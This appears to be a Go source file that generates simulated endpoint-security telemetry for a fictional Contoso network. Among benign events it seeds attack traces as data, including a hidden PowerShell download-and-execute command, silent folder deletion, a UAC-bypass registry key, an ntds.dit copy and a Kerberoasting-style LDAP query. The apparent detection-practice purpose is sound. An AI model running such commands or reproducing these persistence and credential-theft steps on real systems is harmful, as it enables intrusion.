package world

// registryChore is a registry value that is set every some hours.
type registryChore struct {
	role                  role
	every                 int64
	action, image         string
	key, name, kind, data string
}

const (
	currentVersion = `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion`
	userVersion    = `HKEY_CURRENT_USER\S-1-5-21-1004336348-1177238915-682003330-1108\SOFTWARE\Microsoft\Windows\CurrentVersion`
	controlSet     = `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001`
	policies       = `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft`
	valueSet       = "RegistryValueSet"
)

var registryChores = []registryChore{
	{staff, 24, valueSet, "explorer.exe", userVersion + `\Explorer\RunMRU`, "a", "String",
		`cmd /c \\srv-file-01\{word}\1`},
	{staff, 48, valueSet, "explorer.exe", userVersion + `\Explorer\RunMRU`, "b", "String",
		`powershell -w hidden -c "iwr https://{site}/{word} | iex"\1`},
	{staff, 48, valueSet, "explorer.exe", userVersion + `\Run`, "Zoom", "String",
		`"{home}\AppData\Roaming\Zoom\bin\Zoom.exe" --autostart`},
	{staff, 60, valueSet, "svchost.exe", userVersion + `\RunOnce`, "Uninstall {n}", "String",
		`C:\Windows\System32\cmd.exe /q /c rmdir /s /q "{home}\AppData\Local\Microsoft\OneDrive\{n}"`},
	{staff, 48, valueSet, "WINWORD.EXE",
		`HKEY_CURRENT_USER\SOFTWARE\Microsoft\Office\16.0\Common\Internet\Server Cache\https://{site}/`, "Version",
		"Dword", "1"},
	{staff, 60, valueSet, "EXCEL.EXE",
		`HKEY_CURRENT_USER\SOFTWARE\Microsoft\Office\16.0\Excel\Security\Trusted Documents\TrustRecords`,
		`%USERPROFILE%/Documents/{word}-{n}.xlsm`, "Binary", ""},
	{staff, 72, valueSet, "explorer.exe", `HKEY_CURRENT_USER\SOFTWARE\Classes\ms-settings\Shell\Open\command`,
		"DelegateExecute",
		"String", ""},
	{staff, 72, "RegistryKeyCreated", "svchost.exe", controlSet + `\Enum\USBSTOR\Disk&Ven_Generic&Prod_Flash&Rev_{n}`,
		"", "", ""},
	{staff, 72, valueSet, "System", `HKEY_LOCAL_MACHINE\SYSTEM\MountedDevices`, `\DosDevices\E:`, "Binary", "{hex}"},
	{staff, 72, "RegistryKeyCreated", "msedge.exe", `HKEY_CURRENT_USER\SOFTWARE\Google\Chrome\Extensions\{hex}{hex}`,
		"", "", ""},
	{admins, 48, valueSet, "cmd.exe", currentVersion + `\Run`, "ContosoAgent", "String",
		`"C:\Program Files\Contoso\Agent\agent.exe" --tray`},
	{admins, 72, valueSet, "cmd.exe", policies + `\Windows Defender\Exclusions\Paths`, `D:\Build`, "Dword", "0"},
	{admins, 72, valueSet, "cmd.exe", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`,
		`D:\Build`,
		"Dword", "0"},
	{admins, 96, valueSet, "cmd.exe", policies + `\Windows Defender\Real-Time Protection`, "DisableRealtimeMonitoring",
		"Dword", "0"},
	{admins, 72, valueSet, "explorer.exe", `HKEY_CURRENT_USER\SOFTWARE\Sysinternals\PsExec`, "EulaAccepted", "Dword",
		"1"},
	{admins, 96, valueSet, "cmd.exe", controlSet + `\Control\Terminal Server`, "fDenyTSConnections", "Dword", "0"},
	{admins, 96, valueSet, "cmd.exe", controlSet + `\Control\Lsa`, "RunAsPPL", "Dword", "1"},
	{admins, 96, valueSet, "cmd.exe", controlSet + `\Control\SecurityProviders\WDigest`, "UseLogonCredential", "Dword",
		"0"},
	{admins, 96, valueSet, "cmd.exe", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`,
		"Userinit",
		"String", `C:\Windows\system32\userinit.exe,`},
	{admins, 96, valueSet, "cmd.exe",
		`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\{word}.exe`,
		"Debugger",
		"String", `C:\Tools\procdump64.exe`},
	{admins, 96, valueSet, "cmd.exe", policies + `\Windows\PowerShell\ScriptBlockLogging`, "EnableScriptBlockLogging",
		"Dword", "1"},
	{admins, 96, "RegistryValueDeleted", "cmd.exe", currentVersion + `\Run`, "Contoso {word}", "String", ""},
	{servers, 48, valueSet, "services.exe", controlSet + `\Services\ContosoAgent{n}`, "ImagePath", "ExpandString",
		`"C:\Program Files\Contoso\Agent\agent.exe" --service`},
	{servers, 48, "RegistryKeyCreated", "services.exe", controlSet + `\Services\ContosoAgent{n}`, "", "", ""},
	{servers, 48, "RegistryKeyCreated", "svchost.exe",
		`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Contoso\{word}`, "",
		"", ""},
	{servers, 96, "RegistryKeyDeleted", "services.exe", controlSet + `\Services\{word}svc`, "", "", ""},
}

// connectionChore is a connection that the sensor reports every some hours.
type connectionChore struct {
	role            role
	every           int64
	action, image   string
	to              string // a server of the tenant; "" for a site
	port            int32  // remote, or local if the connection is inbound
	inbound, mapped bool   // mapped: an IPv4 address in IPv6 form
	fields          string
}

var connectionChores = []connectionChore{
	{servers, 24, "InboundConnectionAccepted", "w3wp.exe", "", 443, true, true, ``},
	{servers, 24, "InboundConnectionAccepted", "svchost.exe", "", 3389, true, false, ``},
	{servers, 24, "InboundConnectionAccepted", "lsass.exe", "", 88, true, true, ``},
	{servers, 36, "InboundConnectionAttempt", "System", "", 445, true, false, ``},
	{servers, 24, "InboundInternetScanInspected", "", "", 443, true, false,
		`{"PublicScannedPort":443,"PublicScannedIp":"203.0.113.10"}`},
	{servers, 24, "ListeningConnectionCreated", "svchost.exe", "", 3389, true, false, ``},
	{staff, 24, "ListeningConnectionCreated", "ms-teams.exe", "", 50000, true, false, ``},
	{servers, 24, "HttpConnectionInspected", "", "", 80, true, false,
		`{"direction":"In","host":"srv-app-01","method":"GET","uri":"/{word}","status_code":"200","user_agent":"curl/8.9.1","version":"1.1"}`},
	{staff, 24, "HttpConnectionInspected", "", "", 80, false, false,
		`{"direction":"Out","host":"{site}","method":"POST","uri":"/{word}","status_code":"200","user_agent":"Mozilla/4.0 (compatible; MSIE 6.0)","version":"1.1"}`},
	{staff, 24, "NetworkSignatureInspected", "", "", 80, false, false,
		`{"SignatureName":"HTTP_Client","SignatureMatchedContent":"GET","SamplePacketContent":"[\"GET /{word} HTTP/1.1\"]"}`},
	{staff, 36, "DnsConnectionInspected", "", "srv-dc-01", 53, false, false,
		`{"direction":"Out","query":"{site}","qtype_name":"A","rcode_name":"NOERROR","answers":"[]"}`},
	{staff, 36, "SslConnectionInspected", "", "", 443, false, false,
		`{"direction":"Out","server_name":"{site}","version":"TLSv12","established":true}`},
	{admins, 36, "SshConnectionInspected", "", "lnx-build-01", 22, false, false,
		`{"direction":"Out","auth_success":true,"auth_attempts":1,"client":"SSH-2.0-OpenSSH_for_Windows_9.5"}`},
	{admins, 24, "ConnectionSuccess", "powershell.exe", "srv-app-01", 5985, false, false, ``},
	{admins, 24, "ConnectionSuccess", "powershell.exe", "srv-dc-01", 636, false, false, ``},
	{admins, 36, "ConnectionSuccess", "cmd.exe", "srv-sql-01", 135, false, false, ``},
	{admins, 36, "ConnectionSuccess", "System", "srv-app-01", 445, false, false, ``},
	{staff, 36, "ConnectionSuccess", "powershell.exe", "", 443, false, false, ``},
	{staff, 36, "ConnectionSuccess", "explorer.exe", "", 80, false, false, ``},
	{staff, 48, "ConnectionSuccess", "WINWORD.EXE", "", 443, false, false, ``},
	{staff, 48, "ConnectionSuccess", "svchost.exe", "", 4444, false, false, ``},
	{staff, 48, "ConnectionSuccess", "msedge.exe", "", 8080, false, false, ``},
	{staff, 48, "ConnectionFailed", "explorer.exe", "srv-file-01", 445, false, false, ``},
	{servers, 48, "ConnectionSuccess", "sqlservr.exe", "", 443, false, false, ``},
	{servers, 48, "ConnectionSuccess", "w3wp.exe", "srv-sql-01", 1433, false, false, ``},
	{staff, 36, "ConnectionSuccessAggregatedReport", "msedge.exe", "", 443, false, false,
		`{"uniqueEventsAggregated":{n}}`},
}

// fileChore is a file that is touched every some hours.
type fileChore struct {
	role          role
	every         int64
	action, image string
	folder, name  string
}

var fileChores = []fileChore{
	{staff, 24, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.exe`},
	{staff, 24, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.zip`},
	{staff, 36, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.msi`},
	{staff, 36, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.js`},
	{staff, 48, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.iso`},
	{staff, 48, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.hta`},
	{staff, 48, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.vbs`},
	{staff, 48, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.docm`},
	{staff, 48, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.lnk`},
	{staff, 48, "FileCreated", "msedge.exe", `{home}\Downloads`, `{word}-{n}.eml`},
	{staff, 72, "FileCreated", "msedge.exe", `{home}\AppData\Local\Google\Chrome\User Data\Webstore Downloads`,
		`{hex}.crx`},
	{staff, 48, "FileCreated", "OUTLOOK.EXE", `{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}`,
		`{word}.zip`},
	{staff, 60, "FileCreated", "OUTLOOK.EXE", `{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}`,
		`{word}.html`},
	{staff, 72, "FileCreated", "OUTLOOK.EXE", `{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{hex}`,
		`{word}.docm`},
	{staff, 48, "FileCreated", "explorer.exe", `{home}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`,
		`{word}.lnk`},
	{staff, 48, "FileCreated", "explorer.exe", `E:\{word}`, `{word}-{n}.xlsx`},
	{staff, 48, "FileCreated", "explorer.exe", `{home}\Documents`, `{word}-{n}.7z`},
	{staff, 60, "FileCreated", "explorer.exe", `{home}\Desktop`, `{word}.rar`},
	{staff, 60, "FileCreated", "explorer.exe", `{home}\Documents`, `passwords {word}.xlsx`},
	{staff, 72, "FileRenamed", "explorer.exe", `{home}\Documents`, `{word}.pdf.exe`},
	{staff, 72, "FileCreated", "cmd.exe", `C:\Users\Public`, `{word}.bat`},
	{staff, 72, "FileCreated", "WINWORD.EXE", `{home}\AppData\Local\Temp`, `{word}.tmp.exe`},
	{staff, 72, "FileCreated", "EXCEL.EXE", `{home}\AppData\Roaming\Microsoft\Excel\XLSTART`, `{word}.xlsb`},
	{admins, 24, "FileCreated", "powershell.exe", `C:\Scripts`, `{word}-{n}.ps1`},
	{admins, 36, "FileModified", "powershell.exe", `C:\Scripts`, `{word}.ps1`},
	{admins, 36, "FileCreated", "cmd.exe", `C:\Temp`, `{word}-{n}.cmd`},
	{admins, 48, "FileCreated", "cmd.exe", `C:\Temp`, `w3wp-{n}.dmp`},
	{admins, 48, "FileCreated", "powershell.exe", `C:\Temp`, `{word}-{n}.dll`},
	{admins, 48, "FileCreated", "powershell.exe", `C:\Windows\Temp`, `__PSScriptPolicyTest_{hex}.ps1`},
	{admins, 72, "FileCreated", "powershell.exe", `C:\ProgramData`, `{word}.csv`},
	{admins, 96, "FileCreated", "cmd.exe", `C:\Tools`, `AdFind.exe`},
	{servers, 24, "FileCreated", "w3wp.exe", `C:\inetpub\wwwroot\uploads`, `{word}-{n}.aspx`},
	{servers, 48, "FileCreated", "System", `C:\Windows\SYSVOL\domain\Policies\{{guid}}`, `{word}.xml`},
	{servers, 48, "FileCreated", "svchost.exe", `C:\Windows\System32\Tasks\Contoso`, `{word}`},
	{servers, 72, "FileCreated", "cmd.exe", `D:\Backup\ifm\Active Directory`, `ntds.dit`},
	{servers, 72, "FileDeleted", "svchost.exe", `E:\Archive\{word}`, `{word}-{n}.bak`},
	{linuxes, 48, "FileCreated", "bash", `/tmp`, `{word}.sh`},
	{linuxes, 72, "FileModified", "bash", `/etc`, `crontab`},
	{linuxes, 72, "FileModified", "bash", `/home/deploy/.ssh`, `authorized_keys`},
	{macs, 72, "FileCreated", "zsh", `{home}/Library/LaunchAgents`, `com.example.{word}.plist`},
	{macs, 72, "FileCreated", "Finder", `{home}/Downloads`, `{word}-{n}.dmg`},
}

// sensorChore is a sensor event that happens every some hours.
type sensorChore struct {
	role                  role
	every                 int64
	action, image, target string
	file, path            string
	fields                string
	visits                bool // has the address of a site
}

var sensorChores = []sensorChore{
	{staff, 24, "SmartScreenUrlWarning", "msedge.exe", "", "", "", `{"Experience":"Phishing","ActivityId":"{guid}"}`,
		true},
	{staff, 48, "SmartScreenUrlWarning", "msedge.exe", "", "", "",
		`{"Experience":"CustomPolicy","ActivityId":"{guid}"}`, true},
	{staff, 48, "SmartScreenUserOverride", "msedge.exe", "", "", "", `{"Experience":"Phishing","ActivityId":"{guid}"}`,
		true},
	{staff, 48, "SmartScreenAppWarning", "explorer.exe", "", "{word}-{n}.exe", `{home}\Downloads`,
		`{"Experience":"Untrusted","ActivityId":"{guid}"}`, true},
	{staff, 24, "ExploitGuardNetworkProtectionBlocked", "msedge.exe", "", "", "",
		`{"IsAudit":false,"ResponseCategory":"CustomBlockList","DisplayName":"Custom"}`, true},
	{staff, 36, "ExploitGuardNetworkProtectionAudited", "msedge.exe", "", "", "",
		`{"IsAudit":true,"ResponseCategory":"CommandAndControl"}`, true},
	{staff, 24, "AntivirusDetection", "MsMpEng.exe", "", "{word}-{n}.exe", `{home}\Downloads`,
		`{"ThreatName":"PUA:Win32/Presenoker","Action":"2","WasRemediated":true,"WasExecutingWhileDetected":false,"ReportSource":"Windows Defender"}`, false},
	{staff, 48, "AntivirusDetection", "MsMpEng.exe", "", "{word}.docm", `{home}\Downloads`,
		`{"ThreatName":"Trojan:O97M/Mamson.A!ml","Action":"2","WasRemediated":true,"WasExecutingWhileDetected":false}`,
		false},
	{staff, 48, "AntivirusReport", "MsMpEng.exe", "", "{word}.exe", `{home}\Downloads`,
		`{"ThreatName":"HackTool:Win32/AutoKMS"}`, false},
	{staff, 36, "PnpDeviceConnected", "System", "", "", "",
		`{"ClassName":"DiskDrive","DeviceDescription":"Disk drive","DeviceId":"USBSTOR\\DISK&VEN_GENERIC\\{hex}","VendorIds":"","ClassId":"4d36e967-e325-11ce-bfc1-08002be10318"}`, false},
	{staff, 48, "PnpDeviceConnected", "System", "", "", "",
		`{"ClassName":"USB","DeviceDescription":"USB Composite Device","DeviceId":"USB\\VID_0781&PID_5581\\{hex}"}`,
		false},
	{staff, 48, "AsrOfficeChildProcessBlocked", "WINWORD.EXE", "", "cmd.exe", system32,
		`{"IsAudit":false,"RuleId":"{guid}"}`, false},
	{staff, 48, "AsrExecutableEmailContentAudited", "OUTLOOK.EXE", "", "{word}.js", `{home}\Downloads`,
		`{"IsAudit":true}`, true},
	{staff, 48, "AsrObfuscatedScriptBlocked", "powershell.exe", "", "{word}.ps1", `{home}\Downloads`,
		`{"IsAudit":false}`, false},
	{staff, 48, "AsrLsassCredentialTheftAudited", "svchost.exe", "lsass.exe", "lsass.exe", system32,
		`{"IsAudit":true}`, false},
	{staff, 72, "AsrUntrustedUsbProcessAudited", "explorer.exe", "", "{word}.exe", `E:\`, `{"IsAudit":true}`, false},
	{staff, 72, "AsrRansomwareAudited", "explorer.exe", "", "{word}.exe", `{home}\Downloads`, `{"IsAudit":true}`,
		false},
	{staff, 72, "ControlledFolderAccessViolationBlocked", "explorer.exe", "", "{word}.docx", `{home}\Documents`,
		`{"IsAudit":false}`, false},
	{staff, 48, "CreateRemoteThreadApiCall", "svchost.exe", "explorer.exe", "explorer.exe", `C:\Windows`, `{}`, false},
	{staff, 72, "QueueUserApcRemoteApiCall", "svchost.exe", "OUTLOOK.EXE", "OUTLOOK.EXE", officeFolder, `{}`, false},
	{staff, 72, "NtAllocateVirtualMemoryRemoteApiCall", "MsSense.exe", "powershell.exe", "powershell.exe", system32,
		`{}`, false},
	{staff, 72, "NtMapViewOfSectionRemoteApiCall", "svchost.exe", "msedge.exe", "msedge.exe", "", `{}`, false},
	{staff, 72, "SetThreadContextRemoteApiCall", "svchost.exe", "msedge.exe", "msedge.exe", "", `{}`, false},
	{staff, 72, "ProcessPrimaryTokenModified", "services.exe", "svchost.exe", "svchost.exe", system32, `{}`, false},
	{staff, 48, "AmsiScriptDetection", "powershell.exe", "", "", "",
		`{"Description":"Amsi script detection","Content":"{hex}"}`, false},
	{staff, 48, "FirewallInboundConnectionBlocked", "svchost.exe", "", "", "", `{}`, true},
	{staff, 72, "FirewallOutboundConnectionBlocked", "msedge.exe", "", "", "", `{}`, true},
	{staff, 48, "UsbDriveMounted", "System", "", "", "",
		`{"DriveLetter":"E:","ProductName":"Backup stick","SerialNumber":"{hex}","Manufacturer":"Generic"}`, false},
	{staff, 48, "UsbDriveUnmounted", "System", "", "", "", `{"DriveLetter":"E:","SerialNumber":"{hex}"}`, false},
	{staff, 48, "ScreenshotTaken", "explorer.exe", "", "", "", `{}`, false},
	{staff, 72, "SafeDocFileScan", "WINWORD.EXE", "", "{word}.docx", `{home}\Downloads`,
		`{"ThreatNames":"","Verdict":"Clean"}`, false},
	{staff, 72, "GetClipboardData", "explorer.exe", "", "", "", `{}`, false},
	{staff, 48, "DnsQueryResponse", "msedge.exe", "", "", "",
		`{"DnsQueryString":"{hex}{hex}.{site}","DnsQueryResult":"[]"}`, false},
	{admins, 24, "PowerShellCommand", "powershell.exe", "", "", "", `{"Command":"Invoke-WebRequest"}`, false},
	{admins, 36, "PowerShellCommand", "powershell.exe", "", "", "", `{"Command":"Get-ADUser"}`, false},
	{admins, 48, "PowerShellCommand", "powershell.exe", "", "", "", `{"Command":"Add-MpPreference"}`, false},
	{admins, 48, "PowerShellCommand", "powershell.exe", "", "", "", `{"Command":"Invoke-Command"}`, false},
	{admins, 72, "PowerShellCommand", "powershell.exe", "", "", "", `{"Command":"Get-NetTCPConnection"}`, false},
	{admins, 36, "UserAccountCreated", "lsass.exe", "", "", "", `{}`, false},
	{admins, 36, "UserAccountAddedToLocalGroup", "lsass.exe", "", "", "",
		`{"GroupName":"Administrators","GroupDomainName":"Builtin","GroupSid":"S-1-5-32-544"}`, false},
	{admins, 72, "UserAccountModified", "lsass.exe", "", "", "", `{}`, false},
	{admins, 72, "UserAccountDeleted", "lsass.exe", "", "", "", `{}`, false},
	{admins, 48, "PasswordChangeAttempt", "lsass.exe", "", "", "", `{}`, false},
	{admins, 48, "SecurityGroupCreated", "lsass.exe", "", "", "", `{}`, false},
	{admins, 72, "TamperingAttempt", "powershell.exe", "", "", "",
		`{"TamperingAction":"RegistryModification","Status":"Ignored","Target":"DisableRealtimeMonitoring"}`, false},
	{admins, 96, "AntivirusTroubleshootModeEvent", "MsSense.exe", "", "", "",
		`{"TroubleshootingState":"started","TroubleshootingStateChangeReason":"Troubleshooting mode started"}`, false},
	{admins, 96, "SecurityLogCleared", "svchost.exe", "", "", "", `{}`, false},
	{admins, 96, "AuditPolicyModification", "lsass.exe", "", "", "", `{"CategoryId":"Logon","SubcategoryId":"Logon"}`,
		false},
	{admins, 72, "LdapSearch", "powershell.exe", "", "", "",
		`{"SearchFilter":"(&(objectCategory=person)(servicePrincipalName=*))","DistinguishedName":"DC=contoso,DC=example","ScopeOfSearch":"SubTree","AttributeList":["sAMAccountName"]}`, false},
	{servers, 48, "ServiceInstalled", "services.exe", "", "agent.exe", `C:\Program Files\Contoso\Agent`,
		`{"ServiceName":"ContosoAgent{n}","ServiceAccount":"LocalSystem","ServiceStartType":2,"ServiceType":16}`,
		false},
	{servers, 36, "ScheduledTaskCreated", "svchost.exe", "", "", "",
		`{"TaskName":"\\Contoso\\{word}","TaskContent":"<Task><Actions><Exec><Command>powershell.exe</Command></Exec></Actions></Task>"}`, false},
	{servers, 72, "ScheduledTaskDeleted", "svchost.exe", "", "", "", `{"TaskName":"\\Contoso\\{word}"}`, false},
	{servers, 72, "ScheduledTaskEnabled", "svchost.exe", "", "", "", `{"TaskName":"\\Contoso\\{word}"}`, false},
	{servers, 48, "ReadProcessMemoryApiCall", "MsMpEng.exe", "lsass.exe", "lsass.exe", system32,
		`{"TotalBytesCopied":{n}}`, false},
	{servers, 72, "RemoteWmiOperation", "WmiPrvSE.exe", "", "", "",
		`{"Operation":"ExecQuery","Namespace":"root\\cimv2"}`, false},
	{servers, 72, "WmiBindEventFilterToConsumer", "WmiPrvSE.exe", "", "", "",
		`{"Consumer":"CommandLineEventConsumer","Namespace":"root\\subscription","ESS":"SCM Event Log Filter"}`, false},
	{servers, 48, "NamedPipeEvent", "System", "", "", "",
		`{"PipeName":"\\Device\\NamedPipe\\PSHost.{n}.powershell","FileOperation":"File created","RemoteClientsAccess":"AcceptRemote","ShareName":"IPC$"}`, false},
	{servers, 72, "DriverLoad", "System", "", "{word}.sys", `C:\Windows\System32\drivers`, `{}`, false},
}

// logonChore is a logon that happens every some hours.
type logonChore struct {
	role                            role
	every                           int64
	action, kind, protocol, failure string
	account                         string // a local account; "" for the device's owner
	outside                         bool   // from the internet
}

var logonChores = []logonChore{
	{servers, 48, "LogonFailed", "Network", "Negotiate", "InvalidUserNameOrPassword", "administrator", true},
	{servers, 48, "LogonFailed", "Network", "NTLM", "AccountLocked", "administrator", true},
	{servers, 72, "LogonSuccess", "Network", "NTLM", "", "administrator", true},
	{servers, 72, "LogonSuccess", "NetworkCleartext", "NTLM", "", "", false},
	{servers, 72, "LogonSuccess", "CachedRemoteInteractive", "Negotiate", "", "", false},
	{admins, 48, "LogonSuccess", "Interactive", "Negotiate", "", "administrator", false},
	{admins, 72, "LogonSuccess", "NewCredentials", "Negotiate", "", "", false},
	{staff, 48, "LogonFailed", "Interactive", "Negotiate", "AccountLocked", "", false},
	{staff, 48, "LogonFailed", "Interactive", "Negotiate", "PasswordExpired", "", false},
	{staff, 72, "LogonSuccess", "CachedUnlock", "Negotiate", "", "", false},
}

// loadChore is a library that is loaded every some hours.
type loadChore struct {
	role           role
	every          int64
	image, library string
}

var loadChores = []loadChore{
	{staff, 36, "WINWORD.EXE", "VBE7.DLL"}, {staff, 48, "explorer.exe", "amsi.dll"},
	{staff, 48, "WINWORD.EXE", "wbemcomn.dll"}, {staff, 48, "EXCEL.EXE", "wbemdisp.dll"},
	{staff, 48, "OUTLOOK.EXE", "taskschd.dll"}, {staff, 72, "explorer.exe", "version.dll"},
	{staff, 72, "OneDrive.exe", "dbghelp.dll"}, {staff, 72, "svchost.exe", "vaultcli.dll"},
	{admins, 48, "powershell.exe", "clr.dll"}, {admins, 72, "powershell.exe", "dbghelp.dll"},
	{servers, 48, "w3wp.exe", "clr.dll"}, {servers, 72, "svchost.exe", "spoolss.dll"},
	{servers, 72, "w3wp.exe", "mscorlib.ni.dll"},
}
